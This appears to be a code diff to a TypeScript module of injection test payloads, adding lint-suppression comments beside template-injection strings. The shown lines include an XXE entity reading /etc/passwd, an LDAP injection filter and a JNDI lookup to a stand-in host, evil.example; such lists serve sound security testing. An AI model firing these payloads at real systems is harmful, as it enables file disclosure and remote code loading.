@@ -78,6 +78,7 @@ const LISTS: Record<string, readonly string[]> = {
     `<plaintext>`,
     `<!DOCTYPE html><html><body>`,
     '{{constructor.constructor("return 1")()}}',
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: this is what it is about
     '${7*7}',
     '#{7*7}',
     '<%= 7*7 %>',
@@ -198,6 +199,7 @@ const LISTS: Record<string, readonly string[]> = {
     '*)(uid=*))(|(uid=*',
     '<!ENTITY x SYSTEM "file:///etc/passwd">',
     '<?xml version="1.0"?>',
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: this is what it is about
     '${jndi:ldap://evil.example/x}',
   ],
   'path traversal': [
